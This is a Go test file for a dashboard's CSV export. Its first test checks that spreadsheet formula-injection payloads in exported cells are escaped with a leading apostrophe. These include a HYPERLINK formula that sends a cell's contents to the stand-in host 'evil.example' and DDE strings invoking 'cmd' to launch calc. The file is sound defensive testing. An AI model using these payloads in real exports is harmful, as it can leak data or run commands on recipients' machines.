package dashboard

import (
	"encoding/csv"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"testing"

	"callrecords/cmd/exporter/internal/dashboard/chosen"
)

func TestTextsOfOthersAreNoFormulas(t *testing.T) {
	t.Parallel()
	pages := pagesOf(t)
	for text, want := range map[string]string{
		`=HYPERLINK("http://evil.example?"&A1)`: `'=HYPERLINK("http://evil.example?"&A1)`,
		"=cmd|' /C calc'!A0":                    "'=cmd|' /C calc'!A0",
		"+1+cmd|'x'!A0":                         "'+1+cmd|'x'!A0",
		"-2+3+cmd|'x'!A0":                       "'-2+3+cmd|'x'!A0",
		"@SUM(A1:A9)":                           "'@SUM(A1:A9)",
		"\t=1":                                  "'\t=1",
		"\n=1":                                  "'\n=1",
		"＝1":                                    "'＝1",
		"+41 44 123 45 67":                      "+41 44 123 45 67",
		"-1.5":                                  "-1.5",
		"Ann, \"=1\"":                           "Ann, \"=1\"",
		"a\nb":                                  "a\nb",
		"Zoë =1":                                "Zoë =1",
		strings.Repeat("x", 5000):               strings.Repeat("x", 5000),
	} {
		t.Run(text[:min(len(text), 20)], func(t *testing.T) {
			t.Parallel()
			q := url.Values{"sql": {"SELECT {name:String} AS name, -1.5 AS n, '' AS none"},
				"param_name": {strings.NewReplacer("\t", `\t`, "\n", `\n`).Replace(text)}}
			status, file := get(t, pages, chosen.Path+"sql.csv?"+q.Encode())
			rows, err := csv.NewReader(strings.NewReader(file)).ReadAll()
			if status != http.StatusOK || err != nil || len(rows) != 2 || !slices.Equal(rows[1], []string{want, "-1.5", ""}) {
				t.Errorf("got %d, %q, %v, want %q", status, rows, err, want)
			}
		})
	}
}

func TestAnErrorIsNoFile(t *testing.T) {
	t.Parallel()
	w := httptest.NewRecorder()
	pagesOf(t).ServeHTTP(w, httptest.NewRequestWithContext(t.Context(), http.MethodGet, chosen.Path+"sql.csv?sql=SELECT+nothing", nil))
	if w.Code/100 != 4 || w.Header().Get("Content-Disposition") != "" || !strings.Contains(w.Body.String(), "nothing") {
		t.Errorf("got %d, %v, %q, want an error to be read", w.Code, w.Header(), w.Body)
	}
}

func TestAFileThatBreaksOffIsNotWhole(t *testing.T) {
	t.Parallel()
	door := http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/csv; charset=UTF-8; header=present")
		_, _ = w.Write([]byte("\"a\"\n1\n"))
		panic(http.ErrAbortHandler)
	})
	defer func() {
		if got := recover(); got != http.ErrAbortHandler {
			t.Errorf("got %v, want the answer given up", got)
		}
	}()
	get(t, New(Options{Door: door}), chosen.Path+"sql.csv?sql=SELECT+1")
}
